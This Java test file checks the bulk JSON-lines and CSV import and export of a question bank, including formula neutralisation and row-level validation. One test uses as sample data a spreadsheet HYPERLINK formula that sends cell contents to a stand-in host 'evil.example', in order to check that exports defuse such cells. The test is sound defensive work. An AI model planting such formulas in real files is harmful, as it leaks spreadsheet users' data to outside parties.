package dev.debrief.question;

import dev.debrief.contracts.Json;
import dev.debrief.testsupport.RealInfra;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static dev.debrief.question.Catalog.as;
import static dev.debrief.question.Catalog.create;
import static dev.debrief.question.Catalog.firm;
import static dev.debrief.question.Catalog.question;
import static dev.debrief.question.Catalog.slug;
import static dev.debrief.question.Catalog.with;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;

/** Bulk import and export of a firm's bank as JSON lines and CSV. */
@QuarkusTest
@TestProfile(RealInfra.class)
class BulkImportExportTest {

    private static String line(Map<String, Object> q) throws Exception {
        return Json.mapper().writeValueAsString(q);
    }

    /** A bank with awkward content: commas, quotes, line breaks, nested parts, a draft and a retired one. */
    private static String seedBank(String f) {
        var sql = with(with(question(slug("sql")), "category", "SQL"), "answerFormat", "SQL");
        sql.put("sql", Map.of("referenceQuery", "select a, \"b\"\nfrom t", "pitfalls", List.of("nulls, dupes")));
        sql.put("prompt", "Line one, with a comma\nline \"two\"");
        create(as("coach", f), sql);
        create(as("coach", f), with(question(slug("draft")), "status", "DRAFT"));
        String retired = create(as("coach", f), with(with(question(slug("gone")), "company", null), "tags", List.of()));
        as("coach", f).post("/api/questions/" + retired + "/retire").then().statusCode(200);
        return retired;
    }

    @Test
    void shouldRoundTripJsonLinesAndCsvExactly() {
        String f = firm();
        seedBank(f);
        for (String format : new String[] { "jsonl", "csv" }) {
            String exported = as("coach", f).get("/api/questions/export?format=" + format).then().statusCode(200)
                    .extract().asString();
            String other = firm();
            as("firm-admin", other).contentType(format.equals("csv") ? "text/csv" : "application/x-ndjson")
                    .body(exported.getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/questions/import?format=" + format).then().statusCode(200)
                    .body("created", equalTo(3)).body("failed", equalTo(0)).body("committed", equalTo(true));
            String again = as("coach", other).get("/api/questions/export?format=" + format).then().extract().asString();
            assertEquals(exported, again, format);
            // importing the same export again changes nothing
            as("coach", other).contentType(format.equals("csv") ? "text/csv" : "application/x-ndjson").body(exported.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                    .post("/api/questions/import?format=" + format).then().statusCode(200)
                    .body("unchanged", equalTo(3));
        }
    }

    /**
     * Finding 5 of issue 13: cells a spreadsheet would run as formulas are exported with a leading single
     * quote (docs/question-service.md), and the import drops it again, so the bank round-trips exactly.
     */
    @Test
    void shouldNeutraliseFormulaCellsInTheCsvExportAndRestoreThemOnImport() {
        String f = firm();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
        var q = with(with(with(question(slug("formula")), "title", formula), "company", "@corp"),
                "tags", List.of("-lead", "+1", "'quoted"));
        q.put("prompt", "\tindented prompt");
        create(as("coach", f), q);
        String csv = as("coach", f).get("/api/questions/export?format=csv").then().statusCode(200).extract().asString();
        String row = csv.split("\r\n")[1];
        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""));
        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(",'\tindented prompt,"));
        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(",'@corp,"));
        // a list cell is one field: it starts with its first tag
        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(",'-lead|+1|'quoted,"));

        String other = firm();
        as("firm-admin", other).contentType("text/csv").body(csv.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .post("/api/questions/import?format=csv").then().statusCode(200).body("created", equalTo(1));
        as("coach", other).get("/api/questions?scope=firm").then()
                .body("items[0].title", equalTo(formula))
                .body("items[0].company", equalTo("@corp"));
        assertEquals(csv, as("coach", other).get("/api/questions/export?format=csv").then().extract().asString());
    }

    /** Finding 6 of issue 13: a JSON line that is the literal null, and control characters in cells. */
    @Test
    void shouldRefuseNullRowsAndControlCharactersRowByRow() throws Exception {
        String f = firm();
        String good = slug("good");
        String body = String.join("\n",
                line(question(good)),
                "null",
                line(with(question(slug("nul")), "title", "a\u0000b")),
                line(with(question(slug("bell")), "tags", List.of("ok", "\u0007"))));
        as("coach", f).contentType("application/x-ndjson").body(body.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .post("/api/questions/import").then().statusCode(200)
                .body("created", equalTo(1)).body("failed", equalTo(3))
                .body("rows[1].errors.field", hasItem("row"))
                .body("rows[2].errors.field", hasItem("title"))
                .body("rows[2].errors[0].message", org.hamcrest.Matchers.containsString("U+0000"))
                .body("rows[3].errors.field", hasItem("tags[1]"));
        String csv = "slug,title,prompt,category,role,roundType,timeBudgetSeconds,difficulty,rubric,answerFormat\r\n"
                + slug("csv") + ",A \u0000title,A prompt,SQL,DATA_PM,DATA_CASE,600,EASY,sql-analysis,SQL\r\n";
        as("coach", f).contentType("text/csv").body(csv.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .post("/api/questions/import?format=csv&mode=all-or-nothing").then().statusCode(422)
                .body("rows[0].errors.field", hasItem("title"));
        as("candidate", f).get("/api/questions?scope=firm").then().body("items.slug", contains(good));
    }

    @Test
    void shouldReportEveryFailingRowAndApplyTheRestInPartialMode() throws Exception {
        String f = firm();
        String good = slug("good");
        String body = String.join("\n",
                line(question(good)),
                line(with(question(slug("bad-enum")), "category", "ASTROLOGY")),
                "{not json",
                line(with(question(slug("long")), "title", "t".repeat(201))),
                line(question(good)));
        as("coach", f).contentType("application/x-ndjson").body(body.getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/questions/import")
                .then().statusCode(200)
                .body("mode", equalTo("partial"))
                .body("total", equalTo(5)).body("created", equalTo(1)).body("failed", equalTo(4))
                .body("rows.outcome", contains("CREATED", "FAILED", "FAILED", "FAILED", "FAILED"))
                .body("rows[1].errors.field", hasItem("category"))
                .body("rows[2].errors.field", hasItem("row"))
                .body("rows[3].errors.field", hasItem("title"))
                .body("rows[4].errors[0].message", equalTo("appears in an earlier row"));
        as("candidate", f).get("/api/questions?scope=firm").then().body("items.slug", contains(good));
    }

    @Test
    void shouldApplyNothingInAllOrNothingModeWhenOneRowFails() throws Exception {
        String f = firm();
        String body = line(question(slug("ok"))) + "\n" + line(with(question(slug("bad")), "difficulty", "EXTREME"));
        as("coach", f).contentType("application/x-ndjson").body(body.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .post("/api/questions/import?mode=all-or-nothing").then().statusCode(422)
                .body("committed", equalTo(false))
                .body("rows.outcome", contains("NOT_APPLIED", "FAILED"));
        as("candidate", f).get("/api/questions?scope=firm").then().body("total", equalTo(0));
    }

    @Test
    void shouldReportBadCsvCellsByColumn() {
        String f = firm();
        String csv = "slug,title,prompt,category,role,roundType,timeBudgetSeconds,difficulty,rubric,answerFormat\r\n"
                + slug("csv") + ",A title,\"A prompt, with a comma\",SQL,DATA_PM,DATA_CASE,600,EASY,sql-analysis,SQL\r\n"
                + slug("csv") + ",A title,A prompt,SQL,DATA_PM,DATA_CASE,soon,EASY,sql-analysis,SQL\r\n";
        as("coach", f).contentType("text/csv").body(csv.getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/questions/import?format=csv").then().statusCode(200)
                .body("created", equalTo(1))
                .body("rows[1].errors.field", hasItem("timeBudgetSeconds"));
        as("coach", f).contentType("text/csv").body("nonsense\r\n1\r\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/questions/import?format=csv")
                .then().statusCode(400).body("errors.field", hasItem("body"));
        as("coach", f).get("/api/questions/export?format=xml").then().statusCode(400)
                .body("errors.field", hasItem("query.format"));
    }
}
